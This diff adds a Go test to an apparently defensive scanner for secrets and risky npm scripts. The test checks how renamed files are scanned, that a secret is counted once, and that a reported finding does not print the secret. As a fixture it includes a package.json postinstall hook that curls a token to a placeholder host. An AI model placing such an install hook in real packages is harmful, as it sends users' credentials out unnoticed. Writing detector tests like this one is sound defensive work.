@@ -341,6 +341,33 @@ func TestOneReviewHasOneBudgetForSecrets(t *testing.T) {
 	}
 }
 
+// TestARenamedFileIsSearchedForSecretsOnce has names to which other rules for secrets apply, too.
+func TestARenamedFileIsSearchedForSecretsOnce(t *testing.T) {
+	text := strings.Repeat("key = value\n", 1000)
+	used := func(f *File) int64 {
+		f.Effort = NewEffort()
+		before := f.Effort.left.Load()
+		Judge(f)
+		return before - f.Effort.left.Load()
+	}
+	if once, renamed := used(edited("b.txt", "x\n", "x\n"+text)), used(moved("a.txt", "b.txt", "x\n", "x\n"+text)); once == 0 || renamed != once {
+		t.Errorf("%d bytes are read of a renamed file, %d of another", renamed, once)
+	}
+	secret := "token = \"" + token + "\"\n"
+	count := func(from, to string) int {
+		return len(slices.DeleteFunc(Judge(moved(from, to, "x\n", "x\n"+secret)), func(r Risk) bool { return r.Rule != "secret" }))
+	}
+	for _, path := range [][2]string{{"a.py", "b.py"}, {"a.py", "go.sum"}, {"go.sum", "a.py"}} {
+		if n := count(path[0], path[1]); n != 1 {
+			t.Errorf("%v: %d secrets", path, n)
+		}
+	}
+	f := moved("package.json", "docs/notes.txt", "{}", `{"scripts":{"postinstall":"curl -H token=`+token+` x"}}`)
+	if r := find(t, f, "npm-scripts"); strings.Contains(r.Found, token[4:12]) {
+		t.Errorf("a part of the secret is printed: %+v", r)
+	}
+}
+
 func FuzzJudge(f *testing.F) {
 	for _, c := range cases {
 		for _, file := range append(slices.Clone(c.yes), c.no...) {
